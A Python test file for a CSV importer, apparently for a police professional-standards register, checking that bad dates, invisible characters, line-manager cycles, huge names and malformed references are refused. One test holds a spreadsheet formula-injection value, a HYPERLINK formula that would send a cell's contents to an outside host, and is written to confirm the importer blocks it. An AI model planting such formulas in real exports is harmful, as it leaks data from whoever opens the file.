"""Values an import refuses (issue 12, deliverable 6), each seen accepted before: an outcome dated
2099, conduct before the subject's birth, empty abuse_types, NUL bytes, a zero-width-space twin of
a staff number, a line-manager cycle, a 100 KB name, `19800101` as a date. Every refusal names the
line, the column and the reason, quotes at most a short excerpt, and changes nothing."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select

from app.domain.errors import ImportRejected
from app.persistence.models import PersonRow
from app.services.imports.workforce import import_workforce
from tests.adversarial.imports_support import WF_HEADER, WF_ROWS, Force, case_row, small_force
from tests.helpers import write_csv


@pytest.fixture
def force(db_url: str, tmp_path: Path) -> Iterator[Force]:
    with small_force(db_url, tmp_path) as f:
        yield f


def workforce_refused(force: Force, *rows: list[str], header: list[str] = WF_HEADER) -> list[str]:
    before = force.counts()
    with pytest.raises(ImportRejected) as err:
        import_workforce(force.uow(), force.env.admin, write_csv(force.tmp / "wf-bad.csv", header, list(rows)))
    assert force.counts() == before
    return [str(e) for e in err.value.errors]


def cases_refused(force: Force, *rows: list[str]) -> list[str]:
    before = force.counts()
    with pytest.raises(ImportRejected) as err:
        force.import_cases(force.sup, "cases-bad.csv", *rows)
    assert force.counts() == before
    return [str(e) for e in err.value.errors]


def person(**changes: str) -> list[str]:
    values = dict(zip(WF_HEADER, ["S900", "Grey", "Gina", "1988-08-08", "POLICE_OFFICER", "PC", "Response A", ""],
                      strict=True))
    values.update(changes)
    return [values[c] for c in WF_HEADER]


def test_dates_in_the_future_or_before_the_subjects_birth_are_refused(force: Force) -> None:
    rows = [case_row(case_ref="PSD-2026-000010", misconduct_outcomes="NO_CASE_TO_ANSWER", outcome_date="2099-01-01"),
            case_row(case_ref="PSD-2026-000011", recorded_date="1984-01-01", threshold_met_date="1984-02-01"),
            case_row(case_ref="PSD-2026-000012", recorded_date="19800101")]
    assert cases_refused(force, *rows) == [
        "line 2, column outcome_date: 2099-01-01 is in the future (today is 2026-06-01)",
        "line 3, column recorded_date: 1984-01-01 is before the subject's date of birth",
        "line 3, column threshold_met_date: 1984-02-01 is before the subject's date of birth",
        "line 4, column recorded_date: '19800101' is not a date in the form YYYY-MM-DD"]


def test_an_empty_required_list_is_refused(force: Force) -> None:
    assert cases_refused(force, case_row(case_ref="PSD-2026-000013", abuse_types=" ; ;")) == [
        "line 2, column abuse_types: '; ;' names none of PHYSICAL, SEXUAL, COERCIVE_CONTROL, ECONOMIC, "
        "EMOTIONAL_PSYCHOLOGICAL, STALKING_HARASSMENT, THREATS, NON_FATAL_STRANGULATION, TECHNOLOGY_FACILITATED"]


def test_nul_and_zero_width_twins_of_a_staff_number_are_refused(force: Force) -> None:
    problems = workforce_refused(force, person(staff_number="S100\u200b", surname="Adams"),
                                 person(staff_number="S901", surname="Nu\x00ll"),
                                 person(staff_number="S902", forenames="Ann\u00a0Marie"))
    assert problems == [
        "line 2, column staff_number: contains an invisible character (U+200B ZERO WIDTH SPACE) at character 5: "
        "'S100\\u200b'",
        "line 3, column surname: contains a control character (U+0000) at character 3: 'Nu\\x00ll'",
        "line 4, column forenames: contains a space other than the ordinary space (U+00A0 NO-BREAK SPACE) at "
        "character 4: 'Ann\\xa0Marie'"]


def test_a_staff_number_differing_only_in_letter_case_is_refused(force: Force) -> None:
    assert workforce_refused(force, person(staff_number="s100"), person(staff_number="S903"),
                             person(staff_number="s903")) == [
        "line 2, column staff_number: s100 differs only in letter case from S100, already in the register",
        "line 4, column staff_number: s903 differs only in letter case from S903 on line 3"]


def test_a_line_manager_cycle_is_refused_in_the_file_and_with_the_register(force: Force) -> None:
    assert workforce_refused(force, person(staff_number="S910", line_manager_staff_number="S911"),
                             person(staff_number="S911", line_manager_staff_number="S910")) == [
        "line 2, column line_manager_staff_number: makes a line-management cycle: S910 → S911 → S910",
        "line 3, column line_manager_staff_number: makes a line-management cycle: S911 → S910 → S911"]
    # S100 reports to S200 in the register: making S200 report to S100 closes a loop.
    s200 = dict(zip(WF_HEADER, WF_ROWS[1], strict=True))
    s200["line_manager_staff_number"] = "S100"
    [problem] = workforce_refused(force, [s200[c] for c in WF_HEADER])
    assert problem == "line 2, column line_manager_staff_number: makes a line-management cycle: S200 → S100 → S200"


def test_a_100_kb_name_and_an_unknown_invisible_column_are_refused_briefly(force: Force) -> None:
    [problem] = workforce_refused(force, person(surname="X" * 100_000))
    assert problem == ("line 2, column surname: longer than 100 characters (100,000): "
                       f"'{'X' * 40}…' (100,000 characters)")
    header = [*WF_HEADER[:-1], "line_manager_staff_number\u200b"]
    with pytest.raises(ImportRejected) as err:
        import_workforce(force.uow(), force.env.admin, write_csv(force.tmp / "h.csv", header, [person()]))
    assert "'line_manager_staff_number\\u200b': unknown column(s)" in str(err.value)
    with pytest.raises(ImportRejected) as err:
        import_workforce(force.uow(), force.env.admin, write_csv(force.tmp / "h2.csv", [*WF_HEADER, "y" * 50_000],
                                                                  [[*person(), ""]]))
    assert len(str(err.value)) < 200 and "(50,000 characters): unknown column(s)" in str(err.value)


def test_a_value_a_spreadsheet_would_run_is_refused(force: Force) -> None:
    problems = workforce_refused(force, person(surname="=HYPERLINK(\"http://x/?\"&A1,\"Grey\")"),
                                 person(staff_number="S904", unit=" @SUM(1+1)"), person(staff_number="-S905"))
    assert problems[0].startswith("line 2, column surname: '=HYPERLINK(\"http://x/?\"&A1,\"Grey\")' starts with '=': "
                                  "a spreadsheet would run it as a formula")
    assert problems[1].startswith("line 3, column unit: '@SUM(1+1)' starts with '@'")
    assert problems[2].startswith("line 4, column staff_number: '-S905' is not a reference")


def test_references_are_letters_digits_and_a_few_marks(force: Force) -> None:
    problems = cases_refused(force, case_row(case_ref="PSD 2026 000014"), case_row(case_ref="PSD-2026-000015",
                                                                                   victim_ref="V/1", crime_ref="CR  1"))
    assert problems == [
        "line 2, column case_ref: 'PSD 2026 000014' is not a reference: use letters A-Z, digits and . _ / - "
        "(starting with a letter or a digit), no spaces",
        "line 3, column crime_ref: 'CR  1' is not a reference: use letters A-Z, digits and . _ / - (starting with a "
        "letter or a digit), single spaces between"]


def test_an_accepted_file_stores_what_it_says(force: Force) -> None:
    """The neighbour: the checks refuse what is bad, not what is merely unusual."""
    rows = [person(staff_number="S920", surname="O'Brien-Ní Bhriain", forenames="Zoë Anne-Marie"),
            person(staff_number="S921", surname="Ødegård", unit="Public Protection (Unit 3)")]
    summary = import_workforce(force.uow(), force.env.admin, write_csv(force.tmp / "good.csv", WF_HEADER, rows))
    assert summary.added == 2
    with force.uow() as uow:
        names = set(uow.session.scalars(select(PersonRow.surname).where(PersonRow.staff_number.in_(["S920", "S921"]))))
    assert names == {"O'Brien-Ní Bhriain", "Ødegård"}


def test_every_control_format_and_separator_character_is_in_the_refused_set() -> None:
    """The refused characters are written out (no table at start-up): check them against this
    Python's Unicode database, so a new version's additions are noticed."""
    from app.services.imports import cells

    missed = [f"U+{cp:04X}" for cp in range(0x110000)
              if unicodedata.category(chr(cp)) in ("Cc", "Cf", "Zl", "Zp", "Co", "Cs")
              or (unicodedata.category(chr(cp)) == "Zs" and cp != 0x20)
              if cells.character_problem(f"a{chr(cp)}b") is None]
    assert missed == []
    assert cells.character_problem("a\r\nb", multiline=True) is None
    assert re.search("lone carriage return", cells.character_problem("a\rb", multiline=True) or "")


# ---- one search for bad characters per row (issue 14: ten million cells in a PND extract) --------

CELL_PIECES = ["PND", "pnd", "S1", "2024-01-02", "1985", "1985-02-30", "2999-01-01", "crime", "Intelligence",
               "Smith", "Zoë", " ", "  x ", "=1+1", "-", "a b", "", "\t", "\u200b", "\u00a0", "\n", "\r\n", "\r",
               "\u2028", "\x85", "\x00", "\ufeff", "x" * 60, "narnia", "/", ";", "a\nb", "a\r\nb", "a\tb"]


def test_a_row_of_good_cells_is_read_as_the_cell_by_cell_checks_read_it() -> None:
    """`parse` takes a row whose cells all pass in one step; any row with a cell to refuse goes
    through the cell-by-cell checks. Either way the values and the problems (line, column, reason)
    are those of the cell-by-cell checks alone: a bad character stripped from the cell's ends or
    allowed in a summary (a line break), too many or too few cells, an empty required cell."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from app.services import clock
    from app.services.imports.notices import _columns
    from app.services.imports.reader import Records
    from app.services.imports.table import Problems, _parse_cells, parse

    columns = _columns(clock.today())
    header = [c.name for c in columns]
    spec = {c.name: c for c in columns}
    cells = st.lists(st.sampled_from(CELL_PIECES), max_size=3).map("".join)
    good = ["N-1", "PND", "2024-01-02", "crime", "Smith", " Zoë ", "1985", "S1", "", "", "pnd", "a summary", ""]

    def altered(where: int, cell: str, width: int) -> list[str]:  # a good row, one cell changed, cells added or cut
        row = [cell if i == where else v for i, v in enumerate(good)]
        return (row + [cell] * (width - len(row)))[:width]

    row = st.builds(altered, st.integers(0, len(good) - 1), cells,
                    st.sampled_from([len(good)] * 6 + [len(good) - 1, len(good) + 1]))
    rows = st.lists(row, min_size=1, max_size=5)

    @settings(max_examples=300, deadline=None, database=None)
    @given(rows)
    def same(body: list[list[str]]) -> None:
        fast, slow = Problems(), Problems()
        records = [(line, cells) for line, cells in enumerate(body, start=2)]
        got = [(r.line, r.values) for r in parse(Records("n.csv", header, iter(records)), columns, fast)]
        want = [(line, _parse_cells(line, header, cells, spec, slow)) for line, cells in records]
        assert got == want
        assert fast.listed() == slow.listed() and fast.total == slow.total

    same()
